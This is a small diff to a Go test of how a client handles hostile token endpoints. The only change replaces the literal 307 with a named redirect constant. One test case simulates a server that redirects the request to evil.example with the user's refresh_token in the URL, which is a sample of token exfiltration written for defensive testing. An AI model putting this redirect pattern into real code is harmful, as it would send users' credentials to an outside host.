@@ -87,7 +87,7 @@ func TestHostileTokenEndpoints(t *testing.T) {
 		"busy":           {text(503, ""), false},
 		"rate limit":     {text(429, `{"error":"slow_down"}`), false},
 		"redirect": {func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://evil.example/?"+r.FormValue("refresh_token"), 307)
+			http.Redirect(w, r, "https://evil.example/?"+r.FormValue("refresh_token"), http.StatusTemporaryRedirect)
 		}, false},
 		"hung up": {func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }, false},
 		"cut off": {func(w http.ResponseWriter, _ *http.Request) {
